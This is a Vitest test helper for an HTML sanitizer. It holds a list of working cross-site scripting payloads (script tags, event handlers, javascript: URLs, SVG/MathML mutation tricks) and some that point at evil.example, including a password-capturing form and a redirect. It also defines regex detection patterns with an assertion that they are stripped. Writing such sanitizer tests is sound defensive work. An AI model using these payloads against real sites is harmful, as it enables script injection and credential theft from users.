import { expect } from 'vitest';

/** Classic payloads: script tags, event handlers, javascript: URLs, SVG/MathML tricks, CSS, mutation XSS. */
export const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg onload=alert(1)><circle /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://example.com"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0">overlay</p>',
  '<form action="https://evil.example"><input name=password></form>',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<p><scr<script>ipt>alert(1)</script></p>',
  '"><script>alert(1)</script>',
];

const dangerous = [/<script/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /data:text/i, /<iframe/i, /<object/i, /<embed/i, /<svg/i, /<math/i, /<style/i, /style=/i, /<form/i, /<input/i, /<base/i, /<meta/i, /<link/i, /srcdoc/i];

/** Fails unless every pattern that could run script, load a resource or restyle the page is gone from the HTML. */
export function expectSafe(html: string) {
  for (const pattern of dangerous) expect(html, `${pattern} survived in: ${html}`).not.toMatch(pattern);
}
